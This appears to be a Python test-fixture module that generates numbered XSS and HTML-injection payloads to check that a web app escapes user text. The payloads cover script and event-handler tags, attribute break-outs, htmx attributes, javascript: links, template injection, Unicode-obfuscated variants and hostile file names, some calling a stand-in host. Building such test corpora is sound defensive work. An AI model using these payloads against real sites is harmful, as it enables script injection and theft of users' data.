"""Texts that would do something where a page took them for more than text: each would ask for an address of its own.

`RUN` stands for a script without quotes that asks for it, `URL` for the address itself.
"""

import re
from itertools import cycle

PWNED = re.compile(r"pwned-(\d+)")

TAGS = [
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT >",
    "<script src=URL></script>",
    "<script type=module>RUN</script>",
    "<script>RUN",
    "<img src=x onerror=RUN>",
    "<img src=URL>",
    '<img src="x" onerror="RUN">',
    "<img/src=x/onerror=RUN>",
    "<IMG SRC=x OnErRoR=RUN>",
    "<<img src=x onerror=RUN>>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=URL /></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><use href=URL#x /></svg>",
    "<svg><image href=URL /></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    '<svg><a href="javascript:RUN"><text y=20>x</text></a></svg>',
    '<math><a href="javascript:RUN">x</a></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>",
    "<video src=x onerror=RUN></video>",
    "<audio src=URL autoplay></audio>",
    "<video><source onerror=RUN></video>",
    "<iframe src=URL></iframe>",
    '<iframe src="javascript:RUN"></iframe>',
    '<iframe srcdoc="<script>RUN</script>"></iframe>',
    "<object data=URL></object>",
    "<embed src=URL>",
    '<object data="data:text/html,<script>RUN</script>"></object>',
    "<marquee onstart=RUN>x</marquee>",
    "<dialog open onfocus=RUN autofocus>",
    "<x tabindex=1 autofocus onfocus=RUN>x</x>",
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
]
BREAK_OUTS = [
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    '" autofocus onfocus=RUN x="',
    "' autofocus onfocus=RUN x='",
    "` onmouseover=RUN x=`",
    " autofocus onfocus=RUN ",
    "</textarea><img src=x onerror=RUN>",
    "</title><img src=x onerror=RUN>",
    "</style><img src=x onerror=RUN>",
    "</select></option><img src=x onerror=RUN>",
    "</script><script>RUN</script>",
    '"}</script><script>RUN</script>',
    "</bdi></dd></dl><img src=x onerror=RUN>",
    "--><img src=x onerror=RUN><!--",
    "<!--><img src=x onerror=RUN>",
    "]]><img src=x onerror=RUN>",
    "\\x3cimg src=x onerror=RUN\\x3e",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "&lt;img src=x onerror=RUN&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "＜img src=x onerror=RUN＞",
]
HTMX = [
    "<b hx-get=URL hx-trigger=load>x</b>",
    "<b data-hx-get=URL data-hx-trigger=load>x</b>",
    "<b hx-post=URL hx-trigger='load delay:1ms'>x</b>",
    "<b hx-get=URL hx-trigger=revealed>x</b>",
    "<b hx-get=URL hx-trigger='every 1s'>x</b>",
    "<b hx-on::load=RUN hx-on:htmx:load=RUN>x</b>",
    "<b hx-on='htmx:load: RUN'>x</b>",
    "<b hx-trigger='load[RUN]' hx-get=/>x</b>",
    "<b hx-vals='js:{a: RUN}' hx-get=/ hx-trigger=load>x</b>",
    "<b hx-get=//pwned.example/URL hx-trigger=load>x</b>",
    "<b hx-ext=x hx-swap-oob=outerHTML:body>URL</b>",
    "<b hx-boost=true><a href=URL autofocus>x</a></b>",
    '" hx-get="URL" hx-trigger="load" x="',
]
LINKS = [
    "javascript:RUN",
    "JaVaScRiPt:RUN//",
    '<a href="javascript:RUN">x</a>',
    "<a href=java&#115;cript:RUN>x</a>",
    "data:text/html,<script>RUN</script>",
    '<a href="data:text/html,<script>RUN</script>">x</a>',
    "<a href=vbscript:RUN>x</a>",
    "[x](javascript:RUN)",
    "https://pwned.example/URL",
    "//pwned.example/URL",
]
PAGES = [
    "<base href=//pwned.example/URL>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>",
    "<style>@import 'URL';</style>",
    "<style>*{background:url(URL)}</style>",
    "<b style='background:url(URL)'>x</b>",
    "<form action=URL><button autofocus>x</button></form>",
    "<button formaction=URL form=f>x</button>",
    "<form id=main><input name=action></form><a id=htmx>URL</a>",
    "{{ URL }}{% debug %}{% load golive %}",
    "{% include 'URL' %}${RUN}#{RUN}<%= RUN %>",
    "{{constructor.constructor('RUN')()}}",
]
# Signs that turn, hide or break what is read: no line takes them, and a block shows them to nobody else's harm.
TURNED = [
    "\u202e>NUR=rorreno gmi<\u202c <img src=x onerror=RUN>",
    "\u2067<script>RUN</script>\u2069",
    "\u200b<\u200bscript>RUN<img src=x onerror=RUN>\u2060",
    "a\u2028<script>RUN</script>\u2029",
    "a\n<img src=x\nonerror=RUN>\n\t<svg\tonload=RUN>",
]


def numbered(n: int, text: str) -> str:
    return text.replace("RUN", f"fetch(/pwned-{n}/.source)").replace("URL", f"/pwned-{n}")


ONE_LINE = [numbered(n, text) for n, text in enumerate(TAGS + BREAK_OUTS + HTMX + LINKS + PAGES)]
PAYLOADS = [*ONE_LINE, *(numbered(n, text) for n, text in enumerate(TURNED, start=len(ONE_LINE)))]
# Neither < > " nor / may be in the name of a file.
FILE_NAMES = [
    "&lt;img src=x onerror=alert(1)&gt; pwned-900.txt",
    "' autofocus onfocus='fetch(`pwned-901`)' .txt",
    "{{ pwned-902 }}{% debug %}.txt",
    "javascript&colon;fetch(`pwned-903`).txt",
    "＜script＞fetch(`pwned-904`)＜&#47;script＞.txt",
]


class Pool:
    """Gives out one after the other: to a line the next that fits, to a block the next."""

    def __init__(self) -> None:
        self._lines, self._blocks = cycle(ONE_LINE), cycle(PAYLOADS)

    def line(self, limit: int = 120) -> str:
        return next(text for text in self._lines if len(text) <= limit)

    def block(self) -> str:
        return next(self._blocks)


def numbers_in(text: str) -> set[int]:
    return {int(n) for n in PWNED.findall(text)}
